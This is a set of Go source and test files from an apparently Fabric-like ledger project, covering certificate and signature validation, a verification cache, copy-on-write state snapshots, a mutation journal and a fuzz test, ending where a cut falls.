	}
	if id.MSPID() != "org1" || id.Subject() != "peer0.org1" {
		t.Fatalf("identity fields: %s/%s", id.MSPID(), id.Subject())
	}

	v := NewVerifier()
	v.TrustCA("org1", ca.PublicKey())
	if err := v.ValidateCertificate(id.Cert); err != nil {
		t.Fatalf("validate: %v", err)
	}
}

func TestUnknownOrgRejected(t *testing.T) {
	ca, _ := NewCA("org1")
	id, _ := ca.Issue("peer0.org1", RolePeer)
	v := NewVerifier()
	err := v.ValidateCertificate(id.Cert)
	if !errors.Is(err, ErrUnknownOrg) {
		t.Fatalf("err = %v, want ErrUnknownOrg", err)
	}
}

func TestForgedCertificateRejected(t *testing.T) {
	ca, _ := NewCA("org1")
	rogue, _ := NewCA("org1") // different key material, same org name
	id, _ := rogue.Issue("peer0.org1", RolePeer)

	v := NewVerifier()
	v.TrustCA("org1", ca.PublicKey())
	err := v.ValidateCertificate(id.Cert)
	if !errors.Is(err, ErrBadCertificate) {
		t.Fatalf("err = %v, want ErrBadCertificate", err)
	}
}

func TestTamperedCertificateRejected(t *testing.T) {
	ca, _ := NewCA("org1")
	id, _ := ca.Issue("peer0.org1", RolePeer)
	v := NewVerifier()
	v.TrustCA("org1", ca.PublicKey())
	v.TrustCA("org2", ca.PublicKey())

	// Claiming a different org must break the CA signature binding.
	tampered := *id.Cert
	tampered.Org = "org2"
	if err := v.ValidateCertificate(&tampered); err == nil {
		t.Fatal("org-swapped certificate validated")
	}
	// So must a role upgrade.
	tampered = *id.Cert
	tampered.Role = RoleAdmin
	if err := v.ValidateCertificate(&tampered); err == nil {
		t.Fatal("role-upgraded certificate validated")
	}
}

func TestSignatureVerification(t *testing.T) {
	ca, _ := NewCA("org1")
	id, _ := ca.Issue("peer0.org1", RolePeer)
	v := NewVerifier()
	v.TrustCA("org1", ca.PublicKey())

	msg := []byte("proposal response")
	sig, err := id.Sign(msg)
	if err != nil {
		t.Fatal(err)
	}
	if err := v.VerifySignature(id.Cert, msg, sig); err != nil {
		t.Fatalf("verify: %v", err)
	}
	if err := v.VerifySignature(id.Cert, []byte("other"), sig); err == nil {
		t.Fatal("signature verified over wrong message")
	}

	// A signature by another identity of the same org must not verify
	// under this certificate.
	other, _ := ca.Issue("peer1.org1", RolePeer)
	otherSig, _ := other.Sign(msg)
	if err := v.VerifySignature(id.Cert, msg, otherSig); err == nil {
		t.Fatal("cross-identity signature verified")
	}
}

func TestCertificateSerializationRoundTrip(t *testing.T) {
	ca, _ := NewCA("org1")
	id, _ := ca.Issue("client0.org1", RoleClient)
	parsed, err := ParseCertificate(id.Cert.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if parsed.Subject != id.Cert.Subject || parsed.Org != id.Cert.Org || parsed.Role != id.Cert.Role {
		t.Fatalf("round trip mismatch: %+v", parsed)
	}
	v := NewVerifier()
	v.TrustCA("org1", ca.PublicKey())
	if err := v.ValidateCertificate(parsed); err != nil {
		t.Fatalf("parsed cert invalid: %v", err)
	}

	if _, err := ParseCertificate([]byte("{broken")); err == nil {
		t.Fatal("malformed certificate parsed")
	}
}

func TestTrustedOrgsSorted(t *testing.T) {
	v := NewVerifier()
	for _, org := range []string{"zeta", "alpha", "mid"} {
		ca, _ := NewCA(org)
		v.TrustCA(org, ca.PublicKey())
	}
	orgs := v.TrustedOrgs()
	if len(orgs) != 3 || orgs[0] != "alpha" || orgs[1] != "mid" || orgs[2] != "zeta" {
		t.Fatalf("orgs = %v", orgs)
	}
}
