package identity

import (
	"container/list"
	"fmt"
	"sync"

	"repro/internal/fabcrypto"
	"repro/internal/metrics"
)

// DefaultVerifyCacheSize is the LRU capacity used when a VerifyCache is
// created with capacity 0.
const DefaultVerifyCacheSize = 4096

// VerifyCache memoizes successful endorsement verifications over a
// Verifier. Validating a block re-verifies the same endorser
// certificates (and, when a transaction is re-validated, the same
// signatures) over and over; each verification costs two ECDSA
// operations — the CA signature over the certificate and the endorser
// signature over the payload. The cache short-circuits both.
//
// Two LRU maps are kept:
//
//   - certificates: serialized certificate bytes -> parsed certificate
//     whose CA signature verified. Repeat endorsers across a block are
//     the common case, so this hits on nearly every transaction.
//   - endorsements: (certificate, message, signature) digest -> verified.
//     This hits only when the identical transaction is re-validated
//     (e.g. perf measurement loops, re-delivered blocks).
//
// Invalidation rules (see docs/VALIDATION.md):
//
//   - Only SUCCESSFUL verifications are cached. A signature that fails
//     because the org's CA is not yet trusted must be re-checked after a
//     later TrustCA, so negative results are never stored.
//   - Every entry records the Verifier generation it was verified under;
//     TrustCA bumps the generation, so CA rotation turns all earlier
//     entries into misses (they are evicted lazily).
//   - Capacity is bounded; least-recently-used entries are evicted.
//
// The zero value is not usable; construct with NewVerifyCache. All
// methods are safe for concurrent use by validation workers.
type VerifyCache struct {
	verifier *Verifier
	counters *metrics.Counters // optional hit/miss counters

	mu    sync.Mutex
	cap   int
	ll    *list.List // front = most recently used
	items map[string]*list.Element
}

type cacheEntry struct {
	key  string
	gen  uint64
	cert *Certificate // nil for endorsement entries
}

// NewVerifyCache wraps a Verifier with an LRU verification cache.
// capacity 0 selects DefaultVerifyCacheSize; a negative capacity
// disables caching entirely (every call verifies in full). counters, when
// non-nil, receives VerifyCacheHits/VerifyCacheMisses.
func NewVerifyCache(v *Verifier, capacity int, counters *metrics.Counters) *VerifyCache {
	if capacity == 0 {
		capacity = DefaultVerifyCacheSize
	}
	return &VerifyCache{
		verifier: v,
		counters: counters,
		cap:      capacity,
		ll:       list.New(),
		items:    make(map[string]*list.Element),
	}
}

// Verifier returns the wrapped Verifier.
func (c *VerifyCache) Verifier() *Verifier { return c.verifier }

// Len returns the number of live cache entries.
func (c *VerifyCache) Len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.ll.Len()
}

// Flush drops every cache entry.
func (c *VerifyCache) Flush() {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.ll.Init()
	c.items = make(map[string]*list.Element)
}

// lookup returns the entry for key when present and current. Stale
// (old-generation) entries are removed.
func (c *VerifyCache) lookup(key string, gen uint64) (*cacheEntry, bool) {
	if c.cap < 0 {
		return nil, false
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	el, ok := c.items[key]
	if !ok {
		return nil, false
	}
	e := el.Value.(*cacheEntry)
	if e.gen != gen {
		c.ll.Remove(el)
		delete(c.items, key)
		return nil, false
	}
	c.ll.MoveToFront(el)
	return e, true
}

// store inserts a verified entry, evicting the LRU tail past capacity.
func (c *VerifyCache) store(key string, e *cacheEntry) {
	if c.cap < 0 {
		return
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if el, ok := c.items[key]; ok {
		el.Value = e
		c.ll.MoveToFront(el)
		return
	}
	c.items[key] = c.ll.PushFront(e)
	for c.ll.Len() > c.cap {
		tail := c.ll.Back()
		c.ll.Remove(tail)
		delete(c.items, tail.Value.(*cacheEntry).key)
	}
}

func (c *VerifyCache) hit()  { c.count(metrics.VerifyCacheHits) }
func (c *VerifyCache) miss() { c.count(metrics.VerifyCacheMisses) }

func (c *VerifyCache) count(name string) {
	if c.counters != nil {
		c.counters.Inc(name)
	}
}

func certKey(certBytes []byte) string {
	return "c/" + string(fabcrypto.Hash(certBytes))
}

func endorsementKey(certBytes, msg, sig []byte) string {
	return "e/" + string(fabcrypto.HashConcat(certBytes, msg, sig))
}

// ParseAndValidate parses a serialized certificate and checks its CA
// signature, serving repeat certificates from the cache.
func (c *VerifyCache) ParseAndValidate(certBytes []byte) (*Certificate, error) {
	gen := c.verifier.Generation()
	key := certKey(certBytes)
	if e, ok := c.lookup(key, gen); ok {
		c.hit()
		return e.cert, nil
	}
	c.miss()
	cert, err := ParseCertificate(certBytes)
	if err != nil {
		return nil, err
	}
	if err := c.verifier.ValidateCertificate(cert); err != nil {
		return nil, err
	}
	c.store(key, &cacheEntry{key: key, gen: gen, cert: cert})
	return cert, nil
}

// VerifyEndorsement checks that sig over msg was produced by the subject
// of the serialized certificate, and that the certificate is valid under
// a trusted CA — the cached equivalent of ParseCertificate +
// Verifier.VerifySignature. On a full hit no ECDSA operation runs.
func (c *VerifyCache) VerifyEndorsement(certBytes, msg, sig []byte) (*Certificate, error) {
	gen := c.verifier.Generation()
	eKey := endorsementKey(certBytes, msg, sig)
	if e, ok := c.lookup(eKey, gen); ok {
		c.hit()
		return e.cert, nil
	}
	cert, err := c.ParseAndValidate(certBytes)
	if err != nil {
		return nil, err
	}
	if err := fabcrypto.Verify(cert.PubKey, msg, sig); err != nil {
		return nil, fmt.Errorf("identity: signature by %q: %w", cert.Subject, err)
	}
	c.store(eKey, &cacheEntry{key: eKey, gen: gen, cert: cert})
	return cert, nil
}
