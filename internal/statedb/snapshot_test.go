package statedb

import (
	"fmt"
	"reflect"
	"testing"
)

func TestGetVersionsBatch(t *testing.T) {
	db := New()
	db.Put("ns", "a", []byte("1"))
	db.Put("ns", "b", []byte("1"))
	db.Put("ns", "b", []byte("2"))
	got := db.GetVersions("ns", []string{"a", "b", "missing"})
	want := []Version{1, 2, 0}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("GetVersions = %v, want %v", got, want)
	}
	if got := db.GetVersions("other", []string{"a"}); got[0] != 0 {
		t.Fatalf("unknown namespace version = %d, want 0", got[0])
	}
}

func TestRangeVersions(t *testing.T) {
	db := New()
	for i := 0; i < 10; i++ {
		db.Put("ns", fmt.Sprintf("k%d", i), []byte("v"))
	}
	db.Put("ns", "k3", []byte("v2"))
	got := db.RangeVersions("ns", "k2", "k5")
	want := []KeyVersion{{"k2", 1}, {"k3", 2}, {"k4", 1}}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("RangeVersions = %v, want %v", got, want)
	}
	if all := db.RangeVersions("ns", "", ""); len(all) != 10 {
		t.Fatalf("open range = %d keys, want 10", len(all))
	}
	if kvs := db.RangeVersions("nope", "", ""); kvs != nil {
		t.Fatalf("unknown namespace = %v, want nil", kvs)
	}
}

func TestGetUnsafeSharesStorage(t *testing.T) {
	db := New()
	db.Put("ns", "k", []byte("abc"))
	v1, ver, ok := db.GetUnsafe("ns", "k")
	if !ok || ver != 1 || string(v1) != "abc" {
		t.Fatalf("GetUnsafe = %q v%d ok=%v", v1, ver, ok)
	}
	v2, _, _ := db.GetUnsafe("ns", "k")
	if &v1[0] != &v2[0] {
		t.Fatal("GetUnsafe should return the stored slice without copying")
	}
	safe, _, _ := db.Get("ns", "k")
	if &safe[0] == &v1[0] {
		t.Fatal("Get must still copy")
	}
}

func TestSnapshotIsolation(t *testing.T) {
	db := New()
	db.Put("ns", "a", []byte("old"))
	db.Put("ns", "b", []byte("keep"))

	snap := db.Snapshot()
	defer snap.Release()

	// Mutate the live store after the snapshot: update, delete, create.
	db.Put("ns", "a", []byte("new"))
	db.Delete("ns", "b")
	db.Put("ns", "c", []byte("born"))
	db.Put("ns2", "x", []byte("other"))

	if v, ver, ok := snap.Get("ns", "a"); !ok || string(v) != "old" || ver != 1 {
		t.Fatalf("snapshot a = %q v%d ok=%v, want old v1", v, ver, ok)
	}
	if _, _, ok := snap.Get("ns", "b"); !ok {
		t.Fatal("snapshot must still see deleted key b")
	}
	if _, _, ok := snap.Get("ns", "c"); ok {
		t.Fatal("snapshot must not see key created after it")
	}
	if snap.GetVersion("ns2", "x") != 0 {
		t.Fatal("snapshot must not see namespace created after it")
	}
	if got := snap.Keys("ns"); !reflect.DeepEqual(got, []string{"a", "b"}) {
		t.Fatalf("snapshot keys = %v, want [a b]", got)
	}
	if got := snap.Namespaces(); !reflect.DeepEqual(got, []string{"ns"}) {
		t.Fatalf("snapshot namespaces = %v, want [ns]", got)
	}
	if snap.Len("ns") != 2 {
		t.Fatalf("snapshot len = %d, want 2", snap.Len("ns"))
	}

	// The live store sees the new world.
	if v, _, _ := db.Get("ns", "a"); string(v) != "new" {
		t.Fatalf("live a = %q, want new", v)
	}
	if _, _, ok := db.Get("ns", "b"); ok {
		t.Fatal("live store must not see deleted b")
	}
}

func TestSnapshotRangeAndIter(t *testing.T) {
	db := New()
	for i := 0; i < 25; i++ {
		db.Put("ns", fmt.Sprintf("k%02d", i), []byte{byte(i)})
	}
	snap := db.Snapshot()
	defer snap.Release()
	db.Put("ns", "k05", []byte("mutated")) // invisible to snap

	kvs := snap.GetRange("ns", "k03", "k08")
	if len(kvs) != 5 || kvs[2].Key != "k05" || string(kvs[2].Value) != "\x05" {
		t.Fatalf("snapshot range = %v", kvs)
	}

	it := snap.RangeIter("ns", "", "", 10)
	var pages, total int
	for {
		page := it.NextPage()
		if page == nil {
			break
		}
		pages++
		total += len(page)
		if len(page) > 10 {
			t.Fatalf("page size %d exceeds 10", len(page))
		}
	}
	if pages != 3 || total != 25 {
		t.Fatalf("pages=%d total=%d, want 3 pages / 25 keys", pages, total)
	}

	if page := snap.RangeIter("missing", "", "", 0).NextPage(); page != nil {
		t.Fatalf("iterator over unknown namespace = %v, want nil", page)
	}
}

func TestSnapshotReleaseStopsClones(t *testing.T) {
	db := New()
	db.Put("ns", "k", []byte("v"))

	snap := db.Snapshot()
	db.Put("ns", "k", []byte("v2")) // forces a copy-on-write clone
	clones := db.Stats().CowClones
	if clones == 0 {
		t.Fatal("write under a snapshot should clone the namespace")
	}
	snap.Release()
	snap.Release() // idempotent
	db.Put("ns", "k", []byte("v3"))
	if got := db.Stats().CowClones; got != clones {
		t.Fatalf("clones after release = %d, want %d (no further clones)", got, clones)
	}
	// Snapshot view still readable after release.
	if v, _, _ := snap.Get("ns", "k"); string(v) != "v" {
		t.Fatalf("released snapshot = %q, want original value", v)
	}
}

func TestSnapshotVersionContinuity(t *testing.T) {
	db := New()
	db.Put("ns", "k", []byte("v1"))
	db.Put("ns", "k", []byte("v2"))
	snap := db.Snapshot()
	defer snap.Release()
	// Tombstone continuity must survive the copy-on-write clone.
	db.Delete("ns", "k")
	if ver := db.Put("ns", "k", []byte("v3")); ver != 3 {
		t.Fatalf("re-created version = %d, want 3", ver)
	}
	if ver := snap.GetVersion("ns", "k"); ver != 2 {
		t.Fatalf("snapshot version = %d, want 2", ver)
	}
}

func TestStatsCounters(t *testing.T) {
	db := New()
	db.Put("ns", "a", []byte("v"))
	db.Get("ns", "a")
	db.GetVersions("ns", []string{"a", "b"})
	db.GetRange("ns", "", "")
	db.Delete("ns", "a")
	db.ApplyBatch([]Write{{Namespace: "ns", Key: "x", Value: []byte("v")}})
	db.Snapshot().Release()
	st := db.Stats()
	if st.Puts != 2 || st.Gets != 3 || st.RangeScans != 1 || st.Deletes != 1 || st.Batches != 1 || st.Snapshots != 1 {
		t.Fatalf("unexpected stats: %+v", st)
	}
}
