package statedb

import (
	"sort"
	"sync/atomic"
)

// Snapshot is a consistent point-in-time read view of the database,
// taken with copy-on-write at the namespace level: taking one costs a
// pointer grab per namespace, not a data copy. Reads on a snapshot are
// lock-free. Writes to the live database after the snapshot was taken are
// invisible to it (the first write to a pinned namespace clones the
// namespace state first).
//
// Endorsement simulation reads from a snapshot so a chaincode invocation
// observes stable state without holding database locks, even while the
// validator commits blocks concurrently.
//
// Call Release when done: it unpins the namespace states so subsequent
// writes stop paying the copy-on-write clone. Reading from a released
// snapshot is still safe (the view never mutates); Release is purely a
// performance courtesy and is idempotent.
type Snapshot struct {
	states   map[string]*nsState
	released int32
}

// Snapshot captures a consistent view across every namespace. It briefly
// excludes all writers, so the view is a single point in the commit
// order.
func (db *DB) Snapshot() *Snapshot {
	atomic.AddUint64(&db.stats.snapshots, 1)
	snap := &Snapshot{}
	db.mu.Lock()
	snap.states = make(map[string]*nsState, len(db.nss))
	for ns, s := range db.nss {
		s.mu.Lock()
		atomic.AddInt32(&s.st.snaps, 1)
		snap.states[ns] = s.st
		s.mu.Unlock()
	}
	db.mu.Unlock()
	return snap
}

// Release unpins the snapshot's namespace states. Idempotent; safe to
// call concurrently with reads on the same snapshot.
func (snap *Snapshot) Release() {
	if !atomic.CompareAndSwapInt32(&snap.released, 0, 1) {
		return
	}
	for _, st := range snap.states {
		atomic.AddInt32(&st.snaps, -1)
	}
}

// Get returns the value and version for key as of the snapshot. The
// returned slice is a copy, safe to keep and mutate.
func (snap *Snapshot) Get(ns, key string) (value []byte, ver Version, ok bool) {
	st := snap.states[ns]
	if st == nil {
		return nil, 0, false
	}
	vv, ok := st.data[key]
	if !ok {
		return nil, 0, false
	}
	return append([]byte(nil), vv.Value...), vv.Version, true
}

// GetVersion returns the version of key as of the snapshot; 0 when
// absent.
func (snap *Snapshot) GetVersion(ns, key string) Version {
	st := snap.states[ns]
	if st == nil {
		return 0
	}
	return st.data[key].Version
}

// GetRange returns all keys k with startKey <= k < endKey as of the
// snapshot, sorted. Values are copied out. Empty endKey means "to the
// end".
func (snap *Snapshot) GetRange(ns, startKey, endKey string) []KV {
	it := snap.RangeIter(ns, startKey, endKey, 0)
	var out []KV
	for {
		page := it.NextPage()
		if page == nil {
			return out
		}
		if out == nil {
			out = page
			continue
		}
		out = append(out, page...)
	}
}

// Keys returns all keys of a namespace as of the snapshot, sorted.
func (snap *Snapshot) Keys(ns string) []string {
	st := snap.states[ns]
	if st == nil {
		return nil
	}
	out := make([]string, len(st.keys))
	copy(out, st.keys)
	return out
}

// Namespaces returns all namespaces with at least one live key as of the
// snapshot, sorted.
func (snap *Snapshot) Namespaces() []string {
	out := make([]string, 0, len(snap.states))
	for ns, st := range snap.states {
		if len(st.data) > 0 {
			out = append(out, ns)
		}
	}
	sort.Strings(out)
	return out
}

// AllNamespaces returns every namespace with at least one live key OR
// one tombstone as of the snapshot, sorted. A snapshot export must walk
// this (not Namespaces) so deletion tombstones — which participate in
// StateHash and in version continuity for re-created keys — survive the
// transfer.
func (snap *Snapshot) AllNamespaces() []string {
	out := make([]string, 0, len(snap.states))
	for ns, st := range snap.states {
		if len(st.data) > 0 || len(st.tombs) > 0 {
			out = append(out, ns)
		}
	}
	sort.Strings(out)
	return out
}

// Tombstones returns the deleted keys of a namespace and their tombstone
// versions (the last live version of each key) as of the snapshot,
// sorted by key.
func (snap *Snapshot) Tombstones(ns string) []KeyVersion {
	st := snap.states[ns]
	if st == nil || len(st.tombs) == 0 {
		return nil
	}
	out := make([]KeyVersion, 0, len(st.tombs))
	for k, v := range st.tombs {
		out = append(out, KeyVersion{Key: k, Version: v})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Key < out[j].Key })
	return out
}

// Len returns the number of live keys in a namespace as of the snapshot.
func (snap *Snapshot) Len(ns string) int {
	st := snap.states[ns]
	if st == nil {
		return 0
	}
	return len(st.data)
}

// DefaultRangePageSize is the page size RangeIter uses when the caller
// passes 0.
const DefaultRangePageSize = 256

// RangeIter is a paginated iterator over a snapshot range. Pages are
// fetched with NextPage, so a large result set never materializes as one
// slice. The iterator is not safe for concurrent use.
type RangeIter struct {
	ns   string
	st   *nsState
	pos  int // next index into st.keys
	hi   int // exclusive end index
	page int
}

// RangeIter returns a paginated iterator over startKey <= k < endKey
// (empty endKey means "to the end") as of the snapshot. pageSize <= 0
// selects DefaultRangePageSize.
func (snap *Snapshot) RangeIter(ns, startKey, endKey string, pageSize int) *RangeIter {
	if pageSize <= 0 {
		pageSize = DefaultRangePageSize
	}
	it := &RangeIter{ns: ns, page: pageSize}
	st := snap.states[ns]
	if st == nil {
		return it
	}
	it.st = st
	it.pos, it.hi = st.rangeBounds(startKey, endKey)
	return it
}

// NextPage returns the next page of results (at most the page size), or
// nil when the range is exhausted. Values are copied out.
func (it *RangeIter) NextPage() []KV {
	if it.st == nil || it.pos >= it.hi {
		return nil
	}
	n := it.hi - it.pos
	if n > it.page {
		n = it.page
	}
	out := make([]KV, 0, n)
	for _, key := range it.st.keys[it.pos : it.pos+n] {
		vv := it.st.data[key]
		out = append(out, KV{
			Namespace: it.ns,
			Key:       key,
			Value:     append([]byte(nil), vv.Value...),
			Version:   vv.Version,
		})
	}
	it.pos += n
	return out
}
