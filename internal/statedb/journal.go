package statedb

import (
	"crypto/sha256"
	"encoding/binary"
	"sort"
	"sync"
	"sync/atomic"
)

// JournalEntry is one resolved world-state mutation: the write as it
// actually landed, version included (for deletes, the tombstone version
// — the last live version of the key). The peer drains the journal
// after each block commit and flushes it to the durable StateStore as
// one atomic batch (docs/STORAGE.md §7, docs/STATEDB.md).
type JournalEntry struct {
	Namespace string
	Key       string
	Value     []byte
	Version   Version
	Delete    bool
}

// journal is the write-behind capture buffer of a DB. Entries are
// appended inside the shard critical sections, so journal order agrees
// with apply order for every key even under concurrent writers.
type journal struct {
	on int32 // atomic: skip capture entirely when disabled
	mu sync.Mutex
	es []JournalEntry
}

func (j *journal) enabled() bool { return atomic.LoadInt32(&j.on) != 0 }

// record appends entries. Callers hold the shard lock(s) of every
// entry's namespace; j.mu is a leaf lock below them.
func (j *journal) record(es ...JournalEntry) {
	j.mu.Lock()
	j.es = append(j.es, es...)
	j.mu.Unlock()
}

// EnableJournal switches on mutation capture. The peer enables it after
// restoring from durable storage, so recovery replay is itself
// journaled (and re-flushed) while the restore of already-durable state
// is not. Idempotent.
func (db *DB) EnableJournal() { atomic.StoreInt32(&db.journal.on, 1) }

// JournalEnabled reports whether mutation capture is on.
func (db *DB) JournalEnabled() bool { return db.journal.enabled() }

// DrainJournal returns every entry captured since the previous drain
// and empties the buffer. The peer calls it at a quiescent point (after
// ValidateAndCommit returns, before the next block), so the drained
// slice is exactly the mutation set of the work since the last drain.
func (db *DB) DrainJournal() []JournalEntry {
	db.journal.mu.Lock()
	es := db.journal.es
	db.journal.es = nil
	db.journal.mu.Unlock()
	return es
}

// RestoreBatch applies already-durable mutations with their recorded
// versions, bypassing the journal: tombstone versions are installed so
// later re-creations of deleted keys continue the version sequence, and
// nothing is re-captured (the entries are durable already). Only used
// while rebuilding state from a StateStore on open.
func (db *DB) RestoreBatch(entries []JournalEntry) {
	for _, e := range entries {
		s := db.ensure(e.Namespace)
		db.mu.RLock()
		s.mu.Lock()
		st := s.writable(db)
		if e.Delete {
			st.deleteAt(e.Key, e.Version)
		} else {
			st.putAt(e.Key, e.Value, e.Version)
		}
		s.mu.Unlock()
		db.mu.RUnlock()
	}
}

// deleteAt installs the tombstone of a delete replayed from durable
// storage: version bookkeeping without requiring the key to be live.
func (st *nsState) deleteAt(key string, ver Version) {
	st.tombs[key] = ver
	if _, live := st.data[key]; live {
		delete(st.data, key)
		st.removeKey(key)
	}
}

// StateHash returns a canonical SHA-256 digest of the entire world
// state: every namespace, every live tuple (key, version, value) and
// every tombstone (key, version), all in sorted order. Two peers that
// applied the same blocks — or one peer before a crash and after
// recovery — produce byte-identical digests. Cost is a full scan;
// intended for tests, doctoring checks and the storage benchmarks, not
// the commit path.
func (db *DB) StateHash() []byte {
	snap := db.Snapshot()
	defer snap.Release()
	return snap.Hash()
}

// Hash computes the canonical state digest over this snapshot's view
// (same algorithm as DB.StateHash). Snapshot export uses it so the
// manifest's state hash is taken over exactly the records exported, not
// a second, possibly later, snapshot.
func (snap *Snapshot) Hash() []byte {
	nss := make([]string, 0, len(snap.states))
	for ns := range snap.states {
		nss = append(nss, ns)
	}
	sort.Strings(nss)

	h := sha256.New()
	var num [8]byte
	writeStr := func(s string) {
		binary.BigEndian.PutUint64(num[:], uint64(len(s)))
		h.Write(num[:])
		h.Write([]byte(s))
	}
	for _, ns := range nss {
		st := snap.states[ns]
		if len(st.data) == 0 && len(st.tombs) == 0 {
			continue
		}
		writeStr(ns)
		for _, k := range st.keys {
			vv := st.data[k]
			writeStr(k)
			binary.BigEndian.PutUint64(num[:], uint64(vv.Version))
			h.Write(num[:])
			binary.BigEndian.PutUint64(num[:], uint64(len(vv.Value)))
			h.Write(num[:])
			h.Write(vv.Value)
		}
		tombs := make([]string, 0, len(st.tombs))
		for k := range st.tombs {
			tombs = append(tombs, k)
		}
		sort.Strings(tombs)
		for _, k := range tombs {
			writeStr("\x00tomb\x00" + k)
			binary.BigEndian.PutUint64(num[:], uint64(st.tombs[k]))
			h.Write(num[:])
		}
	}
	return h.Sum(nil)
}
