package statedb

import (
	"bytes"
	"fmt"
	"sort"
	"testing"
)

// refModel is the naive reference semantics the sharded store must match:
// plain maps, full-scan-and-sort ranges, tombstones for version
// continuity — the pre-sharding implementation in miniature.
type refModel struct {
	data  map[string]map[string]VersionedValue
	tombs map[string]map[string]Version
}

func newRefModel() *refModel {
	return &refModel{
		data:  make(map[string]map[string]VersionedValue),
		tombs: make(map[string]map[string]Version),
	}
}

func (m *refModel) clone() *refModel {
	c := newRefModel()
	for ns, kvs := range m.data {
		c.data[ns] = make(map[string]VersionedValue, len(kvs))
		for k, v := range kvs {
			c.data[ns][k] = VersionedValue{Value: append([]byte(nil), v.Value...), Version: v.Version}
		}
	}
	for ns, ts := range m.tombs {
		c.tombs[ns] = make(map[string]Version, len(ts))
		for k, v := range ts {
			c.tombs[ns][k] = v
		}
	}
	return c
}

func (m *refModel) put(ns, key string, value []byte) Version {
	if m.data[ns] == nil {
		m.data[ns] = make(map[string]VersionedValue)
	}
	base := m.data[ns][key].Version
	if base == 0 && m.tombs[ns] != nil {
		base = m.tombs[ns][key]
	}
	next := base + 1
	m.data[ns][key] = VersionedValue{Value: append([]byte(nil), value...), Version: next}
	return next
}

func (m *refModel) del(ns, key string) {
	vv, ok := m.data[ns][key]
	if !ok {
		return
	}
	if m.tombs[ns] == nil {
		m.tombs[ns] = make(map[string]Version)
	}
	m.tombs[ns][key] = vv.Version
	delete(m.data[ns], key)
}

func (m *refModel) get(ns, key string) (VersionedValue, bool) {
	vv, ok := m.data[ns][key]
	return vv, ok
}

func (m *refModel) getRange(ns, start, end string) []KV {
	var out []KV
	for k, vv := range m.data[ns] {
		if k >= start && (end == "" || k < end) {
			out = append(out, KV{Namespace: ns, Key: k, Value: append([]byte(nil), vv.Value...), Version: vv.Version})
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Key < out[j].Key })
	return out
}

func (m *refModel) keys(ns string) []string {
	out := make([]string, 0, len(m.data[ns]))
	for k := range m.data[ns] {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// compareAll asserts that every observable of the sharded store matches
// the reference model: point reads, versions (live and after deletion via
// a re-put probe would mutate, so versions only), ranges, keys, lengths.
func compareAll(t *testing.T, db *DB, m *refModel, namespaces []string, keys []string) {
	t.Helper()
	for _, ns := range namespaces {
		wantKeys := m.keys(ns)
		gotKeys := db.Keys(ns)
		if len(gotKeys) == 0 {
			gotKeys = nil
		}
		if len(wantKeys) == 0 {
			wantKeys = nil
		}
		if fmt.Sprint(gotKeys) != fmt.Sprint(wantKeys) {
			t.Fatalf("ns %q keys: got %v want %v", ns, gotKeys, wantKeys)
		}
		if db.Len(ns) != len(wantKeys) {
			t.Fatalf("ns %q len: got %d want %d", ns, db.Len(ns), len(wantKeys))
		}
		for _, k := range keys {
			wantVV, wantOK := m.get(ns, k)
			gotV, gotVer, gotOK := db.Get(ns, k)
			if gotOK != wantOK || gotVer != wantVV.Version || !bytes.Equal(gotV, wantVV.Value) {
				t.Fatalf("ns %q key %q: got (%q v%d %v) want (%q v%d %v)",
					ns, k, gotV, gotVer, gotOK, wantVV.Value, wantVV.Version, wantOK)
			}
			if db.GetVersion(ns, k) != wantVV.Version {
				t.Fatalf("ns %q key %q version mismatch", ns, k)
			}
		}
		vers := db.GetVersions(ns, keys)
		for i, k := range keys {
			wantVV, _ := m.get(ns, k)
			if vers[i] != wantVV.Version {
				t.Fatalf("ns %q GetVersions[%q] = %d want %d", ns, k, vers[i], wantVV.Version)
			}
		}
	}
}

func compareRange(t *testing.T, got, want []KV, label string) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("%s: got %d results want %d (%v vs %v)", label, len(got), len(want), got, want)
	}
	for i := range got {
		if got[i].Key != want[i].Key || got[i].Version != want[i].Version || !bytes.Equal(got[i].Value, want[i].Value) {
			t.Fatalf("%s[%d]: got %+v want %+v", label, i, got[i], want[i])
		}
	}
}

// FuzzStateDB drives random Put/Delete/GetRange/Snapshot/ApplyBatch
// sequences over a small key space against the reference model, checking
// observational equivalence after every operation — including tombstone
// version continuity and snapshot isolation (snapshots are compared
// against frozen clones of the model).
func FuzzStateDB(f *testing.F) {
	f.Add([]byte{0, 1, 2, 3, 4, 5, 6, 7, 8, 9})
	f.Add([]byte{0x10, 0x21, 0x32, 0x43, 0x54, 0x65, 0x76, 0x87, 0x98, 0xa9, 0xba, 0xcb})
	f.Add([]byte("snapshot-then-delete-then-put"))
	f.Fuzz(func(t *testing.T, ops []byte) {
		namespaces := []string{"nsA", "nsB", "nsC"}
		keys := []string{"k0", "k1", "k2", "k3", "k4", "k5", "k6", "k7"}
		db := New()
		model := newRefModel()

		type frozen struct {
			snap *Snapshot
			ref  *refModel
		}
		var snaps []frozen

		step := 0
		for i := 0; i+1 < len(ops); i += 2 {
			op, arg := ops[i], ops[i+1]
			ns := namespaces[int(arg)%len(namespaces)]
			key := keys[int(arg>>2)%len(keys)]
			step++
			switch op % 6 {
			case 0: // put
				val := []byte(fmt.Sprintf("v%d", step))
				gotVer := db.Put(ns, key, val)
				wantVer := model.put(ns, key, val)
				if gotVer != wantVer {
					t.Fatalf("step %d put %s/%s: version %d want %d", step, ns, key, gotVer, wantVer)
				}
			case 1: // delete
				db.Delete(ns, key)
				model.del(ns, key)
			case 2: // range scan, bounded and unbounded
				start, end := keys[int(arg)%len(keys)], ""
				if arg%3 == 0 {
					end = keys[int(arg>>1)%len(keys)]
				}
				if end != "" && end < start {
					start, end = end, start
				}
				compareRange(t, db.GetRange(ns, start, end), model.getRange(ns, start, end),
					fmt.Sprintf("step %d range %s[%s,%s)", step, ns, start, end))
				gotRV := db.RangeVersions(ns, start, end)
				wantRV := model.getRange(ns, start, end)
				if len(gotRV) != len(wantRV) {
					t.Fatalf("step %d RangeVersions: %d want %d", step, len(gotRV), len(wantRV))
				}
